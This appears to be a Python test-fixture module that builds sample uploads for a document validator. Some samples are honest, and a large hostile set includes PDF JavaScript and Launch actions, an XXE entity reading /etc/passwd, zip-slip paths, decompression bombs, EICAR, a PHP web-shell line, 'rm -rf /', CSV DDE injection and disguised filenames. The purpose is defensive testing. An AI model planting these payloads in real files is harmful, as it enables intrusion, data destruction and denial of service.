"""Builders of files that must never be accepted, and of honest samples of every accepted type.

Everything is made here from bytes; no file of somebody else's is needed. ``HOSTILE`` and ``HONEST`` map a title
to a pair of file name and builder.
"""

from __future__ import annotations

import io
import stat
import struct
import zipfile
import zlib
from collections.abc import Callable

import openpyxl
import pikepdf
from pikepdf import Array, Dictionary, Name
from reportlab.pdfgen import canvas

Builder = Callable[[], bytes]
MEGABYTE = 1 << 20

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!$H+H*"
DTD = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'


# --- PDF ---


def pdf(pages: int = 1, title: str = "岩土工程勘察报告") -> bytes:
    target = io.BytesIO()
    page = canvas.Canvas(target)
    page.setTitle(title)
    for number in range(pages):
        page.drawString(72, 720, f"sheet {number + 1}")
        page.showPage()
    page.save()
    return target.getvalue()


def _pdf_with(change: Callable[[pikepdf.Pdf], None], **saving: object) -> Builder:
    def build() -> bytes:
        target = io.BytesIO()
        with pikepdf.Pdf.open(io.BytesIO(pdf())) as document:
            change(document)
            document.save(target, **saving)
        return target.getvalue()

    return build


def _script() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=pikepdf.String("app.alert(1)"))


def _open_action(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = _script()


def _script_tree(document: pikepdf.Pdf) -> None:
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([pikepdf.String("a"), _script()])))


def _script_on_page(document: pikepdf.Pdf) -> None:
    document.pages[0].obj.AA = Dictionary(O=document.make_indirect(_script()))


def _script_in_field(document: pikepdf.Pdf) -> None:
    field = document.make_indirect(Dictionary(FT=Name.Tx, T=pikepdf.String("a"), AA=Dictionary(K=_script())))
    document.Root.AcroForm = Dictionary(Fields=Array([field]))


def _launch(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = Dictionary(S=Name.Launch, F=pikepdf.String("cmd.exe"))


def _launch_in_link(document: pikepdf.Pdf) -> None:
    link = Dictionary(
        Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=Dictionary(S=Name.Launch, F=pikepdf.String("calc.exe"))
    )
    document.pages[0].obj.Annots = Array([link])


def _attachment(document: pikepdf.Pdf) -> None:
    document.attachments["setup.exe"] = pikepdf.AttachedFileSpec(document, b"MZ")


def _attachment_as_note(document: pikepdf.Pdf) -> None:
    content = document.make_stream(b"MZ")
    content.Type = Name.EmbeddedFile
    note = Dictionary(
        Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[0, 0, 9, 9], FS=Dictionary(EF=Dictionary(F=content))
    )
    document.pages[0].obj.Annots = Array([note])


def _form_in_xml(document: pikepdf.Pdf) -> None:
    document.Root.AcroForm = Dictionary(Fields=Array([]), XFA=document.make_stream(b"<xdp/>"))


def _rich_media(document: pikepdf.Pdf) -> None:
    document.pages[0].obj.Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=[0, 0, 9, 9])])


def _import_data(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = Dictionary(S=Name.ImportData, F=pikepdf.String("\\\\server\\a.fdf"))


def _go_to_embedded(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = Dictionary(S=Name.GoToE, T=Dictionary(R=Name.C))


def _content_elsewhere(document: pikepdf.Pdf) -> None:
    content = document.make_stream(b"q Q")
    content.F = pikepdf.String("\\\\server\\share\\a")
    document.pages[0].obj.Contents = content


def _bomb_in_content(document: pikepdf.Pdf) -> None:
    packed = zlib.compress(bytes(200 * MEGABYTE), 9)
    document.pages[0].obj.Contents = pikepdf.Stream(document, packed, Filter=Name.FlateDecode)


def _bomb_chained(document: pikepdf.Pdf) -> None:
    packed = zlib.compress(zlib.compress(bytes(200 * MEGABYTE), 9), 9)
    document.pages[0].obj.Contents = pikepdf.Stream(
        document, packed, Filter=Array([Name.FlateDecode, Name.FlateDecode])
    )


def _many_filters(document: pikepdf.Pdf) -> None:
    packed = b"q Q"
    for _ in range(6):
        packed = zlib.compress(packed)
    document.pages[0].obj.Contents = pikepdf.Stream(document, packed, Filter=Array([Name.FlateDecode] * 6))


def _picture_too_large(document: pikepdf.Pdf) -> None:
    picture = document.make_stream(b"\0")
    picture.Type, picture.Subtype, picture.Width, picture.Height = Name.XObject, Name.Image, 60_000, 60_000
    picture.ColorSpace, picture.BitsPerComponent = Name.DeviceGray, 1
    document.pages[0].obj.Resources = Dictionary(XObject=Dictionary(A=picture))


def _no_pages(document: pikepdf.Pdf) -> None:
    del document.pages[0]


def _raw_pdf(objects: list[bytes]) -> bytes:
    """A PDF written by hand: object n is ``objects[n - 1]``, the first one the catalogue."""
    written, places = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, 1):
        places.append(len(written))
        written += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    start = len(written)
    written += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    written += b"".join(b"%010d 00000 n \n" % place for place in places)
    return written + b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, start)


def pdf_by_hand(catalogue: bytes = b"", *more: bytes) -> bytes:
    return _raw_pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R" + catalogue + b">>",
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
            *more,
        ]
    )


def _pdf_names_in_hex() -> bytes:
    return pdf_by_hand(b"/OpenAction<</S/J#61vaScri#70t/#4aS(app.alert\\(1\\))>>")


def _pdf_deep() -> bytes:
    return pdf_by_hand(b"/A " + b"[" * 50_000 + b"]" * 50_000)


def _pdf_many_pages() -> bytes:
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"
    kids = b" ".join(b"%d 0 R" % number for number in range(3, 5_103))
    return _raw_pdf(
        [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[" + kids + b"]/Count 5100>>", *([page] * 5_100)]
    )


def _pdf_pages_in_a_ring() -> bytes:
    return _raw_pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R]/Count 1/Parent 2 0 R>>"])


def pdf_with_object_stream(padding: int) -> bytes:
    """A cross-reference stream sends the catalogue into an object stream with ``padding`` blanks behind it."""
    packed = zlib.compress(b"1 0 <</Type/Catalog/Pages 3 0 R>>" + b" " * padding, 9)
    written, places = b"%PDF-1.7\n", {}
    for number, content in (
        (
            2,
            b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(packed)
            + packed
            + b"\nendstream",
        ),
        (3, b"<</Type/Pages/Kids[4 0 R]/Count 1>>"),
        (4, b"<</Type/Page/Parent 3 0 R/MediaBox[0 0 9 9]>>"),
    ):
        places[number] = len(written)
        written += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    start = len(written)
    rows = [(0, 0, 65535), (2, 2, 0), *((1, places[number], 0) for number in (2, 3, 4)), (1, start, 0)]
    table = b"".join(struct.pack(">BIH", *row) for row in rows)
    written += b"5 0 obj\n<</Type/XRef/Size 6/W[1 4 2]/Root 1 0 R/Length %d>>stream\n" % len(table) + table
    return written + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % start


# --- ZIP containers ---


def zipped(*members: tuple[str, bytes], packed: bool = True) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED if packed else zipfile.ZIP_STORED) as archive:
        for name, content in members:
            archive.writestr(name, content)
    return target.getvalue()


def _zip(*members: tuple[str, bytes]) -> Builder:
    return lambda: zipped(*members)


TEXT = ("说明.txt", "项目材料说明".encode())
CONTENT_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/>{}</Types>'
)


def docx(*members: tuple[str, bytes], types: str = "", body: bytes = b"<w:document xmlns:w='w'/>") -> bytes:
    return zipped(("[Content_Types].xml", CONTENT_TYPES.format(types).encode()), ("word/document.xml", body), *members)


def _docx(*members: tuple[str, bytes], types: str = "", body: bytes = b"<w:document xmlns:w='w'/>") -> Builder:
    return lambda: docx(*members, types=types, body=body)


def xlsx(*members: tuple[str, bytes]) -> bytes:
    target = io.BytesIO()
    book = openpyxl.Workbook()
    book.active.append(["材料名称", "份数"])
    book.active["A1"].hyperlink = "https://www.gov.cn/"
    book.save(target)
    with zipfile.ZipFile(target, "a", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members:
            archive.writestr(name, content)
    return target.getvalue()


def ofd(*members: tuple[str, bytes], root: bytes = b'<ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016"/>') -> bytes:
    return zipped(("OFD.xml", root), ("Doc_0/Document.xml", b"<a/>"), *members)


def _relations(kind: str, mode: str = "External") -> bytes:
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
        f'Target="http://example.invalid/a" TargetMode="{mode}"/></Relationships>'
    ).encode()


def _entry(name: str, mode: int) -> zipfile.ZipInfo:
    entry = zipfile.ZipInfo(name)
    entry.external_attr = mode << 16
    return entry


def _zip_entry(entry: zipfile.ZipInfo, content: bytes) -> Builder:
    def build() -> bytes:
        target = io.BytesIO()
        with zipfile.ZipFile(target, "w") as archive:
            archive.writestr(entry, content)
        return target.getvalue()

    return build


def _bomb(name: str) -> Builder:
    """300 MB of zeros (ClamAV lets this pass)."""

    def build() -> bytes:
        target = io.BytesIO()
        zeros = bytes(MEGABYTE)
        with (
            zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive,
            archive.open(name, "w") as member,
        ):
            for _ in range(300):
                member.write(zeros)
        return target.getvalue()

    return build


def _with_member(build: Builder, name: str) -> Builder:
    return lambda: zipped((name, build()))


def _zip_overlapping() -> bytes:
    """Two directory entries that share the same bytes."""
    source = bytearray(zipped(("a.txt", b"a" * 99), ("b.txt", b"a" * 99)))
    first = source.find(b"PK\x01\x02")
    second = source.find(b"PK\x01\x02", first + 4)
    source[second + 42 : second + 46] = struct.pack("<I", 0)
    return bytes(source)


def _zip_lying_about_size() -> bytes:
    """The directory promises 10 bytes where a megabyte comes out."""
    source = bytearray(zipped(("a.txt", b"a" * MEGABYTE)))
    place = source.find(b"PK\x01\x02")
    source[place + 24 : place + 28] = struct.pack("<I", 10)
    return bytes(source)


def _zip_two_names() -> bytes:
    source = zipped(("a.txt", b"text"))
    return source.replace(b"a.txt", b"b.txt", 1)


def _zip_encrypted() -> bytes:
    source = bytearray(zipped(("a.txt", b"text")))
    source[6] |= 1
    source[source.find(b"PK\x01\x02") + 8] |= 1
    return bytes(source)


def _zip_wrong_checksum() -> bytes:
    return zipped(("a.txt", b"text of the member"), packed=False).replace(b"text of", b"fext of")


def _zip_many() -> bytes:
    return zipped(*((f"{number}.txt", b"") for number in range(5_100)), packed=False)


def _zip_same_name_twice() -> bytes:
    return zipped(("a.txt", b"text"), ("A.TXT", b"other"))


# --- pictures, drawings, text ---


def _chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def png(width: int = 2, height: int = 2) -> bytes:
    rows = b"".join(b"\0" + bytes(min(width, 8) * 3) for _ in range(min(height, 8)))
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", zlib.compress(rows)) + _chunk(b"IEND", b"")


def jpeg(width: int = 8, height: int = 8) -> bytes:
    frame = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\x01\x11\x00"
    scan = b"\xff\xda" + struct.pack(">HB", 8, 1) + b"\x01\x00\x00\x3f\x00" + b"\x7f\x00"
    return b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + frame + scan + b"\xff\xd9"


def tiff(width: int = 4, height: int = 4, following: int = 0, order: str = "<") -> bytes:
    head = (b"II" if order == "<" else b"MM") + struct.pack(f"{order}HI", 42, 8)
    entries = struct.pack(f"{order}HHII", 256, 4, 1, width) + struct.pack(f"{order}HHII", 257, 4, 1, height)
    return head + struct.pack(f"{order}H", 2) + entries + struct.pack(f"{order}I", following) + bytes(16)


def dwg(version: bytes = b"AC1032", *, flags: int = 0, macros: int = 0) -> bytes:
    head = bytearray(version + bytes(1018))
    struct.pack_into("<IIII", head, 0x18, flags, 0, 0x20, macros)
    return bytes(head)


def dxf() -> bytes:
    return b"999\r\nmade by hand\r\n  0\r\nSECTION\r\n  2\r\nENTITIES\r\n  0\r\nENDSEC\r\n  0\r\nEOF\r\n"


PROGRAM = b"MZ\x90\x00" + bytes(200)
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"


def _of(content: bytes) -> Builder:
    return lambda: content


HONEST: dict[str, tuple[str, Builder]] = {
    "pdf": ("勘察报告.pdf", lambda: pdf(3)),
    "pdf with compressed objects": (
        "a.pdf",
        _pdf_with(lambda document: None, object_stream_mode=pikepdf.ObjectStreamMode.generate),
    ),
    "pdf that writes about /JavaScript": ("a.pdf", lambda: pdf(title="/JavaScript /Launch (/JS)")),
    "pdf by hand": ("a.pdf", pdf_by_hand),
    "pdf with an array of 50,000 members": ("a.pdf", lambda: pdf_by_hand(b"/A [" + b"7 " * 50_000 + b"]")),
    "pdf by hand with an object stream": ("a.pdf", lambda: pdf_with_object_stream(9)),
    "ofd": ("批复.ofd", ofd),
    "docx": ("说明.docx", lambda: docx(("word/_rels/document.xml.rels", _relations("hyperlink")))),
    "xlsx": ("清单.xlsx", xlsx),
    "jpg": ("现场.jpg", jpeg),
    "jpeg": ("现场.JPEG", jpeg),
    "png": ("图.png", png),
    "tif": ("扫描.tif", tiff),
    "tiff": ("扫描.tiff", lambda: tiff(order=">")),
    "dwg": ("总平面图.dwg", dwg),
    "dwg of 2000": ("总平面图.dwg", lambda: dwg(b"AC1015")),
    "dxf": ("总平面图.dxf", dxf),
    "zip": (
        "成果.zip",
        lambda: zipped(
            TEXT, ("图/总平面.dwg", dwg()), ("报告.pdf", pdf()), ("附件/表.xlsx", xlsx()), ("a.docx", docx())
        ),
    ),
    "csv": ("清单.csv", _of("名称,费用\n勘察,-1200\n=SUM(B2:B9),1\n".encode())),
    "csv in GB 18030": ("清单.csv", _of("名称,费用\n勘察,1200\n".encode("gb18030"))),
    "txt": ("说明.txt", _of("\ufeff材料说明\r\n".encode())),
}

HOSTILE: dict[str, tuple[str, Builder]] = {
    # PDF
    "pdf script on opening": ("a.pdf", _pdf_with(_open_action)),
    "pdf script in the name tree": ("a.pdf", _pdf_with(_script_tree)),
    "pdf script on a page": ("a.pdf", _pdf_with(_script_on_page)),
    "pdf script in a field": ("a.pdf", _pdf_with(_script_in_field)),
    "pdf script inside a compressed object stream": (
        "a.pdf",
        _pdf_with(_script_on_page, object_stream_mode=pikepdf.ObjectStreamMode.generate),
    ),
    "pdf script with names in hexadecimal": ("a.pdf", _pdf_names_in_hex),
    "pdf that starts a program": ("a.pdf", _pdf_with(_launch)),
    "pdf link that starts a program": ("a.pdf", _pdf_with(_launch_in_link)),
    "pdf with an attachment": ("a.pdf", _pdf_with(_attachment)),
    "pdf with an attachment in a note": ("a.pdf", _pdf_with(_attachment_as_note)),
    "pdf with an XML form": ("a.pdf", _pdf_with(_form_in_xml)),
    "pdf with rich media": ("a.pdf", _pdf_with(_rich_media)),
    "pdf that imports data": ("a.pdf", _pdf_with(_import_data)),
    "pdf that goes to an embedded file": ("a.pdf", _pdf_with(_go_to_embedded)),
    "pdf whose content lies elsewhere": ("a.pdf", _pdf_with(_content_elsewhere)),
    "pdf content bomb": ("a.pdf", _pdf_with(_bomb_in_content, compress_streams=False)),
    "pdf content bomb of chained filters": ("a.pdf", _pdf_with(_bomb_chained, compress_streams=False)),
    "pdf with six filters": ("a.pdf", _pdf_with(_many_filters, compress_streams=False)),
    "pdf object stream bomb": ("a.pdf", lambda: pdf_with_object_stream(300 * MEGABYTE)),
    "pdf pixel flood": ("a.pdf", _pdf_with(_picture_too_large)),
    "pdf with a password": (
        "a.pdf",
        _pdf_with(lambda document: None, encryption=pikepdf.Encryption(owner="o", user="u")),
    ),
    "pdf with an owner's password": (
        "a.pdf",
        _pdf_with(lambda document: None, encryption=pikepdf.Encryption(owner="o", user="")),
    ),
    "pdf without pages": ("a.pdf", _pdf_with(_no_pages)),
    "pdf nested 50,000 deep": ("a.pdf", _pdf_deep),
    "pdf of 5,100 pages": ("a.pdf", _pdf_many_pages),
    "pdf whose pages form a ring": ("a.pdf", _pdf_pages_in_a_ring),
    "pdf cut in half": ("a.pdf", lambda: pdf()[: len(pdf()) // 2]),
    "pdf of a header only": ("a.pdf", _of(b"%PDF-1.7\n")),
    "pdf that is also a zip": ("a.pdf", lambda: pdf() + zipped(TEXT)),
    "pdf behind other bytes": ("a.pdf", lambda: b"GIF89a" + pdf()),
    # ZIP
    "zip bomb of 300 MB": ("a.zip", _bomb("a.txt")),
    "zip bomb in a docx in a zip": ("a.zip", _with_member(_bomb("word/document.xml"), "a.docx")),
    "zip within a zip": ("a.zip", _with_member(_zip(TEXT), "b.zip")),
    "zip within a zip under another name": ("a.zip", _with_member(_zip(TEXT), "b.txt")),
    "rar within a zip": ("a.zip", _zip(("b.rar", b"Rar!\x1a\x07\x01\x00"))),
    "zip slip": ("a.zip", _zip(("../../etc/cron.d/a.txt", b"text"))),
    "zip slip with backslashes": ("a.zip", _zip(("..\\..\\a.txt", b"text"))),
    "zip with an absolute path": ("a.zip", _zip(("/etc/a.txt", b"text"))),
    "zip with a drive letter": ("a.zip", _zip(("C:\\a.txt", b"text"))),
    "zip with a symbolic link": ("a.zip", _zip_entry(_entry("a.txt", stat.S_IFLNK | 0o777), b"/etc/passwd")),
    "zip with a device": ("a.zip", _zip_entry(_entry("a.txt", stat.S_IFCHR | 0o666), b"")),
    "zip with a right-to-left member": ("a.zip", _zip(("a\u202etxt.exe.txt", b"text"))),
    "zip with a program": ("a.zip", _zip(("setup.exe", PROGRAM))),
    "zip with a program named txt": ("a.zip", _zip(("readme.txt", PROGRAM))),
    "zip with a page": ("a.zip", _zip(("index.html", HTML))),
    "zip with a page named txt": ("a.zip", _zip(("index.txt", HTML))),
    "zip with a scripted pdf": ("a.zip", _with_member(_pdf_with(_open_action), "a.pdf")),
    "zip with EICAR": ("a.zip", _zip(("a.txt", EICAR))),
    "zip with a password": ("a.zip", _zip_encrypted),
    "zip whose entries overlap": ("a.zip", _zip_overlapping),
    "zip that lies about a size": ("a.zip", _zip_lying_about_size),
    "zip with two names for one member": ("a.zip", _zip_two_names),
    "zip with the same name twice": ("a.zip", _zip_same_name_twice),
    "zip with a wrong checksum": ("a.zip", _zip_wrong_checksum),
    "zip of 5,100 members": ("a.zip", _zip_many),
    "zip without members": ("a.zip", lambda: zipped()),
    "zip behind a program": ("a.zip", lambda: PROGRAM + zipped(TEXT)),
    "zip before other bytes": ("a.zip", lambda: zipped(TEXT) + b"<script>alert(1)</script>"),
    "zip cut short": ("a.zip", lambda: zipped(TEXT)[:-10]),
    # Office and OFD
    "docx with macros": ("a.docx", _docx(("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"))),
    "docx declared as macro-enabled": (
        "a.docx",
        _docx(
            types='<Override PartName="/word/document.xml" '
            'ContentType="application/vnd.ms-word.document.&#109;acroEnabled.main+xml"/>'
        ),
    ),
    "docx with an embedded object": ("a.docx", _docx(("word/embeddings/oleObject1.bin", b"x"))),
    "docx with a control": ("a.docx", _docx(("word/activeX/activeX1.xml", b"<a/>"))),
    "docx with a remote template": (
        "a.docx",
        _docx(("word/_rels/settings.xml.rels", _relations("attachedTemplate"))),
    ),
    "docx with a remote template, disguised": (
        "a.docx",
        _docx(("word/_rels/settings.xml.rels", _relations("attachedTemplate", "&#69;xternal"))),
    ),
    "docx with an external entity": ("a.docx", _docx(body=DTD)),
    "docx with an external entity in UTF-16": ("a.docx", _docx(body=DTD.decode().encode("utf-16"))),
    "docx in UTF-7": ("a.docx", _docx(body=b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE a+AD4-<a/>')),
    "docx with a command field": ("a.docx", _docx(body=b"<w:d xmlns:w='w'><w:i>DDEAUTO c:\\\\cmd.exe</w:i></w:d>")),
    "docx with a page inside": ("a.docx", _docx(("word/afchunk.mht", b"MIME-Version: 1.0"))),
    "docx with a program inside": ("a.docx", _docx(("word/media/image1.png", PROGRAM))),
    "docx bomb": ("a.docx", _bomb("word/document.xml")),
    "docx that is a plain zip": ("a.docx", _zip(TEXT)),
    "docx that is an xlsx": ("a.docx", xlsx),
    "docx that is an old doc": ("a.docx", _of(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600))),
    "xlsx with macros": ("a.xlsx", lambda: xlsx(("xl/vbaProject.bin", b"x"))),
    "xlsx with a macro sheet": ("a.xlsx", lambda: xlsx(("xl/macrosheets/sheet1.xml", b"<a/>"))),
    "xlsx with a command link": (
        "a.xlsx",
        lambda: xlsx(
            ("xl/externalLinks/externalLink1.xml", b'<externalLink><ddeLink ddeService="cmd"/></externalLink>')
        ),
    ),
    "ofd with an external entity": ("a.ofd", lambda: ofd(root=DTD)),
    "ofd with an attachment": ("a.ofd", lambda: ofd(("Doc_0/Attachs/a.docx", b"x"))),
    "ofd with a program": ("a.ofd", lambda: ofd(("Doc_0/Res/a.js", b"x"))),
    "ofd that is a plain zip": ("a.ofd", _zip(TEXT)),
    # pictures and drawings
    "png pixel flood": ("a.png", lambda: png(60_000, 60_000)),
    "png with a zip behind it": ("a.png", lambda: png() + zipped(TEXT)),
    "png with a script behind it": ("a.png", lambda: png() + b"<?php system($_GET[0]);"),
    "png of no width": ("a.png", lambda: png(0, 9)),
    "png cut short": ("a.png", lambda: png()[:-6]),
    "svg script as png": ("a.png", _of(SVG)),
    "jpeg pixel flood": ("a.jpg", lambda: jpeg(65_000, 65_000)),
    "jpeg with a zip behind it": ("a.jpg", lambda: jpeg() + zipped(TEXT)),
    "jpeg without an end": ("a.jpg", lambda: jpeg()[:-2]),
    "png as jpeg": ("a.jpg", png),
    "tiff pixel flood": ("a.tif", lambda: tiff(40_000, 40_000)),
    "tiff that loops": ("a.tif", lambda: tiff(following=8)),
    "tiff that points outside": ("a.tif", lambda: tiff(following=1 << 30)),
    "dwg with macros": ("a.dwg", lambda: dwg(macros=0x400)),
    "dwg with a password": ("a.dwg", lambda: dwg(flags=1)),
    "dwg of a header only": ("a.dwg", _of(b"AC1032")),
    "program as dwg": ("a.dwg", _of(PROGRAM)),
    "dxf cut short": ("a.dxf", lambda: dxf()[:-8]),
    "dxf with binary content": ("a.dxf", lambda: dxf().replace(b"ENDSEC", b"END\0EC")),
    # text
    "EICAR": ("a.txt", _of(EICAR)),
    "EICAR across a border": ("a.txt", _of(b"a" * ((1 << 18) - 40) + EICAR)),
    "text with NUL": ("a.txt", _of(b"text\0text")),
    "text in no encoding": ("a.txt", _of(b"text \xff\xff\xff text")),
    "text in UTF-16": ("a.txt", _of("材料".encode("utf-16"))),
    "page as text": ("a.txt", _of(HTML)),
    "svg as text": ("a.txt", _of(b"\n  " + SVG)),
    "shell script as text": ("a.txt", _of(b"#!/bin/sh\nrm -rf /\n")),
    "csv that calls a program": ("a.csv", _of(b"a,=cmd|'/C calc'!A0\n")),
    "csv that calls a web service": ("a.csv", _of(b'a,"=WEBSERVICE(""http://example.invalid"")"\n')),
    # names and types
    "nothing": ("a.pdf", _of(b"")),
    "svg": ("a.svg", _of(SVG)),
    "page": ("a.html", _of(HTML)),
    "program": ("a.exe", _of(PROGRAM)),
    "macro document by name": ("a.docm", docx),
    "old document by name": ("a.doc", _of(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1")),
    "no extension": ("report", pdf),
    "second extension": ("report.pdf.exe", pdf),
    "right-to-left override": ("report\u202efdp.exe", pdf),
    "NUL in the name": ("report.exe\0.pdf ", _of(PROGRAM)),
    "stream of a name": ("report.pdf::$DATA", pdf),
    "extension only": (".pdf", pdf),
    "dots only": ("../..", pdf),
    "name of a device": ("con.pdf", pdf),
    "invisible name": ("\u200b\u2060.pdf", pdf),
}
